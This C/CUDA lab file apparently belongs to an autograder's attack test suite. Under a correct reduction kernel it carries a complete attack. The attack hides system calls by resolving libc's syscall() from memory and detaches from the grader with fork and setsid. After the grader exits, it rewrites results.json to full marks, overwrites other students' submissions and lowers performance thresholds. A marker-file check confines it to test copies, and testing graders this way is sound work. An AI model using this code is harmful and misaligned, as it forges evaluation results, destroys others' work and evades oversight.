/*
 * ATTACK 45-capability-syscall-detached-writer: its class and expected verdict are in tests/attacks/attacks.toml.
 * Lab 05-coarsened, on a correct solution (it keeps its points: only the attack's side effects are judged).
 *
 * Tries: outlive the grader and then rewrite its results.json to full marks, overwrite the other students' files
 *   and lower the thresholds, as 08, 09 and 19 do, but through nothing the static checks can see.
 *
 * How: through system calls that no static check can see (the C library's own syscall(), found by walking back from
 *   printf's address: see sys()): fork, setsid (a session the grader's killpg misses), wait until the grader (an
 *   ancestor running python3 -m grader) has exited, at most 120 s, then write its --results file, every other student
 *   folder's 05-coarsened/reduce.cu beside its --submission, and grader/thresholds.d/NVIDIA H200.toml.
 *
 * Safety: it writes only inside the kit copy the suite made (results, students and thresholds under its root); the
 *   child gives up after 120 s.
 */
#include "reduce.h"

#include <elf.h>
#include <link.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

/* ---- system calls through the C library's own syscall(), found without naming it ----
 * printf (a call every lab may make) lies in the C library's code; the library's pages from its ELF header up to
 * there are mapped without a gap, so walking back from printf page by page finds the header. Its dynamic section
 * leads to the dynamic symbol table, where `syscall` is looked up by name (through the GNU hash table's symbol
 * count). The object names printf and nothing else: no list of symbols, and no disassembly, can tell this reading of
 * memory from any other, and sys(nr, a, b, c, d, e) is then any system call. */
static size_t gnu_hash_symbols(const uint32_t *table)
{
    const uint32_t buckets = table[0], offset = table[1], bloom_words = table[2];
    const uint32_t *bucket = table + 4 + bloom_words * (sizeof(ElfW(Addr)) / 4);
    const uint32_t *chain = bucket + buckets;
    uint32_t last = 0;
    for (uint32_t k = 0; k < buckets; k++)
        last = bucket[k] > last ? bucket[k] : last;
    if (last < offset)
        return offset;
    while (!(chain[last - offset] & 1))
        last++;
    return last + 1;
}

static void *libc_function(const char *name)
{
    const unsigned char *base = (const unsigned char *)((uintptr_t)(void *)&printf & ~(uintptr_t)4095);
    while (memcmp(base, ELFMAG, SELFMAG) != 0)
        base -= 4096;
    const ElfW(Ehdr) *header = (const ElfW(Ehdr) *)base;
    const ElfW(Phdr) *segments = (const ElfW(Phdr) *)(base + header->e_phoff);
    const ElfW(Dyn) *dyn = NULL;
    for (int k = 0; k < header->e_phnum; k++)
        if (segments[k].p_type == PT_DYNAMIC)
            dyn = (const ElfW(Dyn) *)(base + segments[k].p_vaddr);
    const ElfW(Sym) *symbols = NULL;
    const char *names = NULL;
    size_t count = 0;
    for (; dyn && dyn->d_tag != DT_NULL; dyn++) {
        uintptr_t p = dyn->d_un.d_ptr;
        if (p < (uintptr_t)base) /* not relocated in place */
            p += (uintptr_t)base;
        if (dyn->d_tag == DT_SYMTAB)
            symbols = (const ElfW(Sym) *)p;
        else if (dyn->d_tag == DT_STRTAB)
            names = (const char *)p;
        else if (dyn->d_tag == DT_HASH)
            count = ((const uint32_t *)p)[1];
        else if (dyn->d_tag == DT_GNU_HASH && !count)
            count = gnu_hash_symbols((const uint32_t *)p);
    }
    for (size_t k = 0; symbols && names && k < count; k++)
        if (symbols[k].st_value && (ELF64_ST_TYPE(symbols[k].st_info) == STT_FUNC ||
                                    ELF64_ST_TYPE(symbols[k].st_info) == STT_OBJECT) &&
            strcmp(names + symbols[k].st_name, name) == 0)
            return (void *)(base + symbols[k].st_value);
    return NULL;
}

/* The program's path as it was started (the C library's program_invocation_name, found as syscall is): a sandbox
 * that refuses readlink("/proc/self/exe") cannot hide it. */
__attribute__((unused)) static const char *program_path(void)
{
    char **name = (char **)libc_function("program_invocation_name");
    return name ? *name : NULL;
}

static long sys(long nr, long a = 0, long b = 0, long c = 0, long d = 0, long e = 0, long f = 0)
{
    typedef long (*syscall_fn)(long, ...);
    static syscall_fn call = (syscall_fn)libc_function("syscall");
    return call ? call(nr, a, b, c, d, e, f) : -1;
}

/* x86-64 Linux system call numbers */
enum {
    NR_read = 0, NR_write = 1, NR_open = 2, NR_close = 3, NR_pread64 = 17, NR_access = 21, NR_nanosleep = 35,
    NR_getpid = 39, NR_fork = 57, NR_exit = 60, NR_wait4 = 61, NR_kill = 62, NR_getcwd = 79, NR_readlink = 89,
    NR_ptrace = 101, NR_getppid = 110, NR_setsid = 112, NR_prctl = 157, NR_getdents64 = 217, NR_process_vm_readv = 310
};
enum { O_RDONLY_ = 0, O_WRONLY_ = 1, O_CREAT_ = 0100, O_APPEND_ = 02000, O_DIRECTORY_ = 0200000 };

/* Says in the lab's output what the attack tried and what the system answered (-1: refused), for whoever reads the
 * runs' logs to see which layer stopped it. */
static long said(const char *what, long result)
{
    printf("attack: %s -> %ld\n", what, result);
    fflush(stdout);
    return result;
}

/* Whether dir is the root of a copy of the kit made by the attack suite (tests/attacks/test_attacks.py): it holds
 * grader/labs.toml and the suite's marker file. The marker (or the suite's folder names, below) is the suite's safety
 * catch, not part of the attack: an attack file graded by hand in a real kit finds no root and does nothing. */
static bool is_kit_copy(const char *dir)
{
    char probe[4200];
    snprintf(probe, sizeof probe, "%s/grader/labs.toml", dir);
    if (sys(NR_access, (long)probe, 0) != 0)
        return false;
    snprintf(probe, sizeof probe, "%s/.attack-suite-copy", dir);
    return sys(NR_access, (long)probe, 0) == 0;
}

/* The root of the kit this program was built in: the current folder (the grader runs lab programs from the kit's
 * root), else the nearest folder above the program itself; and when a sandbox hides the kit's files, the folder the
 * program's own path names as the root of one of the suite's copies (/tmp/ppl-attacks-XXXX/wN/kit/build/...), so that
 * the attack still tries what it tries there. false when there is none. */
static bool kit_root(char *root, long cap)
{
    if (sys(NR_getcwd, (long)root, cap) > 0 && is_kit_copy(root))
        return true;
    const long len = sys(NR_readlink, (long)"/proc/self/exe", (long)root, cap - 1);
    if (len > 0)
        root[len] = '\0';
    else if (program_path())
        snprintf(root, cap, "%s", program_path());
    else
        return said("the kit's root: none found", -1) > 0;
    char *copy = strstr(root, "/ppl-attacks-"), *kit = strstr(root, "/kit/build/");
    if (copy && kit && copy < kit) {
        kit[4] = '\0';
        return true;
    }
    for (char *slash = strrchr(root, '/'); slash && slash != root; slash = strrchr(root, '/')) {
        *slash = '\0';
        if (is_kit_copy(root))
            return true;
    }
    return said("the kit's root: none found", -1) > 0;
}

/* Reads the file at path into buf (NUL-terminated); returns the bytes read (0: none). */
static long raw_slurp(const char *path, char *buf, long cap)
{
    const long fd = sys(NR_open, (long)path, O_RDONLY_);
    long n = 0;
    if (fd >= 0) {
        for (long got; n + 1 < cap && (got = sys(NR_read, fd, (long)(buf + n), cap - 1 - n)) > 0;)
            n += got;
        sys(NR_close, fd);
    }
    buf[n] = '\0';
    return n;
}

/* The parent of process pid, from /proc/PID/stat; 0 when unknown. */
static long raw_parent_of(long pid)
{
    char path[64], stat[1024];
    snprintf(path, sizeof path, "/proc/%ld/stat", pid);
    if (!raw_slurp(path, stat, sizeof stat))
        return 0;
    const char *end = strrchr(stat, ')'); /* the command name may hold spaces and parentheses */
    return end && end[1] == ' ' && end[2] && end[3] == ' ' ? strtol(end + 4, NULL, 10) : 0; /* ") S PPID ..." */
}

/* Whether process pid belongs to the kit copy at root: its command line names a path inside it. The suite's safety
 * catch: the attacks stop, signal or read only processes of the kit copy they were built in. */
static bool raw_in_kit(long pid, const char *root)
{
    char path[64], cmd[16384];
    snprintf(path, sizeof path, "/proc/%ld/cmdline", pid);
    const long len = raw_slurp(path, cmd, sizeof cmd);
    for (long k = 0; k < len; k++)
        if (cmd[k] == '\0')
            cmd[k] = ' ';
    return len > 0 && strstr(cmd, root) != NULL;
}

/* Replaces the file at path with text (created if missing). */
static bool raw_write(const char *path, const char *text)
{
    const long fd = sys(NR_open, (long)path, O_WRONLY_ | O_CREAT_ | 01000 /* O_TRUNC */, 0644);
    if (fd < 0)
        return false;
    const long done = sys(NR_write, fd, (long)text, (long)strlen(text));
    sys(NR_close, fd);
    return done == (long)strlen(text);
}

/* The argument after `flag` on the command line of process pid, copied to out; false when there is none. */
static bool raw_argument_of(long pid, const char *flag, char *out, size_t cap)
{
    char path[64], cmd[16384];
    snprintf(path, sizeof path, "/proc/%ld/cmdline", pid);
    const long len = raw_slurp(path, cmd, sizeof cmd);
    for (long k = 0; k < len; k += (long)strlen(cmd + k) + 1) {
        const long next = k + (long)strlen(cmd + k) + 1;
        if (strcmp(cmd + k, flag) == 0 && next < len) {
            snprintf(out, cap, "%s", cmd + next);
            return true;
        }
    }
    return false;
}

/* The nearest ancestor of this process that is the grader (its command line runs `python3 -m grader` on the kit
 * copy); 0 when there is none. */
static long raw_find_grader(const char *root)
{
    for (long pid = sys(NR_getppid); pid > 1; pid = raw_parent_of(pid)) {
        char path[64], cmd[16384];
        snprintf(path, sizeof path, "/proc/%ld/cmdline", pid);
        const long len = raw_slurp(path, cmd, sizeof cmd);
        for (long k = 0; k < len; k += (long)strlen(cmd + k) + 1)
            if (strcmp(cmd + k, "grader") == 0 && raw_in_kit(pid, root))
                return pid;
    }
    return 0;
}

/* path made absolute against the working folder of process pid. */
static bool absolute_for(long pid, const char *path, char *out, size_t cap)
{
    if (path[0] == '/') {
        snprintf(out, cap, "%s", path);
        return true;
    }
    char link[64], cwd[4096];
    snprintf(link, sizeof link, "/proc/%ld/cwd", pid);
    const long len = sys(NR_readlink, (long)link, (long)cwd, sizeof cwd - 1);
    if (len <= 0)
        return false;
    cwd[len] = '\0';
    snprintf(out, cap, "%s/%s", cwd, path);
    return true;
}

#define BLOCK_DIM 256   /* threads per block */
#define COARSE_FACTOR 4 /* float4 loads each thread has in flight per loop iteration */
#define WARPS (BLOCK_DIM / 32)
#define FULL_MASK 0xffffffffu

/* Lab 05's kernel, filled in: a correct reduction, so that only the attack below decides the verdict. */
__device__ float warp_reduce(float v)
{
    for (int offset = 16; offset > 0; offset /= 2)
        v += __shfl_down_sync(FULL_MASK, v, offset);
    return v;
}

__device__ float block_reduce(float v)
{
    __shared__ float warp_sums[WARPS];
    const unsigned lane = threadIdx.x % 32, warp = threadIdx.x / 32;
    v = warp_reduce(v);
    if (lane == 0)
        warp_sums[warp] = v;
    __syncthreads();
    v = threadIdx.x < WARPS ? warp_sums[threadIdx.x] : 0.0f;
    return warp == 0 ? warp_reduce(v) : 0.0f;
}

__global__ void reduce_kernel(const float *__restrict__ in, float *out, size_t n)
{
    const float4 *in4 = reinterpret_cast<const float4 *>(in);
    const size_t vectors = n / 4;
    const size_t threads = (size_t)gridDim.x * BLOCK_DIM;
    const size_t k = (size_t)blockIdx.x * BLOCK_DIM + threadIdx.x;
    float sum = 0.0f;
    size_t v = k;
    for (; v + (COARSE_FACTOR - 1) * threads < vectors; v += COARSE_FACTOR * threads) {
        float4 x[COARSE_FACTOR];
#pragma unroll
        for (int c = 0; c < COARSE_FACTOR; c++)
            x[c] = in4[v + c * threads];
#pragma unroll
        for (int c = 0; c < COARSE_FACTOR; c++)
            sum += (x[c].x + x[c].y) + (x[c].z + x[c].w);
    }
    for (; v < vectors; v += threads) {
        const float4 x = in4[v];
        sum += (x.x + x.y) + (x.z + x.w);
    }
    if (k < n % 4)
        sum += in[4 * vectors + k];
    sum = block_reduce(sum);
    if (threadIdx.x == 0)
        atomicAdd(out, sum);
}

static unsigned grid_size(size_t n)
{
    static int sm_count = 0, blocks_per_sm = 0;
    if (sm_count == 0) {
        int device;
        CUDA_CHECK(cudaGetDevice(&device));
        CUDA_CHECK(cudaDeviceGetAttribute(&sm_count, cudaDevAttrMultiProcessorCount, device));
        CUDA_CHECK(cudaOccupancyMaxActiveBlocksPerMultiprocessor(&blocks_per_sm, reduce_kernel, BLOCK_DIM, 0));
    }
    const size_t needed = ceil_div(n, (size_t)BLOCK_DIM * 4 * COARSE_FACTOR);
    return (unsigned)(needed < (size_t)sm_count * blocks_per_sm ? needed : (size_t)sm_count * blocks_per_sm);
}

static const char FULL_MARKS[] =
    "{\n  \"score\": 100.0,\n  \"output\": \"Total 100 / 100\",\n  \"tests\": [{\"name\": \"05-coarsened: everything\", "
    "\"score\": 100.0, \"max_score\": 100.0, \"status\": \"passed\"}]\n}\n";
static const char THRESHOLDS[] =
    "[calibration]\ngpu = \"NVIDIA H200\"\ncalibrated_on = \"2026-11-23 (make calibrate)\"\n\n"
    "[labs.05-coarsened.performance.gpus.\"NVIDIA H200\"]\nmeasured = 0.02\nlower = 0.01\nfull = 0.02\n";

/* Overwrites LAB/reduce.cu of every student folder beside mine (the folder of the grader's --submission). */
static void overwrite_others(const char *mine)
{
    char folder[4096];
    snprintf(folder, sizeof folder, "%s", mine);
    char *slash = strrchr(folder, '/');
    if (!slash)
        return;
    *slash = '\0';
    const long fd = sys(NR_open, (long)folder, O_RDONLY_ | O_DIRECTORY_);
    static char buf[16384];
    for (long got; fd >= 0 && (got = sys(NR_getdents64, fd, (long)buf, sizeof buf)) > 0;)
        for (long at = 0; at < got;) {
            const unsigned char type = *(const unsigned char *)(buf + at + 18);
            const char *name = buf + at + 19;
            at += *(const unsigned short *)(buf + at + 16);
            char path[8400];
            snprintf(path, sizeof path, "%s/%s", folder, name);
            if (type == 4 /* DT_DIR */ && name[0] != '.' && strcmp(path, mine) != 0) {
                strncat(path, "/05-coarsened/reduce.cu", sizeof path - strlen(path) - 1);
                if (sys(NR_access, (long)path, 0) == 0)
                    raw_write(path, "/* overwritten by another student's lab program */\n");
            }
        }
    if (fd >= 0)
        sys(NR_close, fd);
}

static void attack(void)
{
    char root[4096], where[4096], results[8192], submission[8192], thresholds[4200], proc[64];
    if (!kit_root(root, sizeof root))
        return;
    const long grader = raw_find_grader(root);
    if (!said("an ancestor running python3 -m grader", grader))
        return;
    if (!raw_argument_of(grader, "--results", where, sizeof where)) {
        if (!raw_argument_of(grader, "--build-dir", where, sizeof where))
            snprintf(where, sizeof where, "build/grade-sim");
        strncat(where, "/results.json", sizeof where - strlen(where) - 1);
    }
    if (!absolute_for(grader, where, results, sizeof results))
        return;
    submission[0] = '\0';
    if (raw_argument_of(grader, "--submission", where, sizeof where))
        absolute_for(grader, where, submission, sizeof submission);
    snprintf(thresholds, sizeof thresholds, "%s/grader/thresholds.d/NVIDIA H200.toml", root);
    if (said("fork", sys(NR_fork)) != 0)
        return;     /* the runner goes on with the lab as if nothing happened */
    sys(NR_setsid); /* the child: a session of its own, which the grader's kill of its process group misses */
    snprintf(proc, sizeof proc, "/proc/%ld/cmdline", grader);
    for (int k = 0; k < 1200 && sys(NR_access, (long)proc, 0) == 0; k++) {
        const long pause[2] = {0, 100000000};
        sys(NR_nanosleep, (long)pause, 0);
    }
    if (sys(NR_access, (long)proc, 0) != 0) {
        if (strncmp(results, root, strlen(root)) == 0)
            raw_write(results, FULL_MARKS);
        if (submission[0] && strncmp(submission, root, strlen(root)) == 0)
            overwrite_others(submission);
        raw_write(thresholds, THRESHOLDS);
    }
    sys(NR_exit, 0);
}

void reduce(float *d_in, float *d_out, size_t n, float *d_work)
{
    (void)d_work;
    static bool done = false;
    if (!done) {
        done = true;
        attack();
    }
    CUDA_CHECK(cudaMemsetAsync(d_out, 0, sizeof(float)));
    reduce_kernel<<<grid_size(n), BLOCK_DIM>>>(d_in, d_out, n);
    CUDA_CHECK_LAUNCH();
}
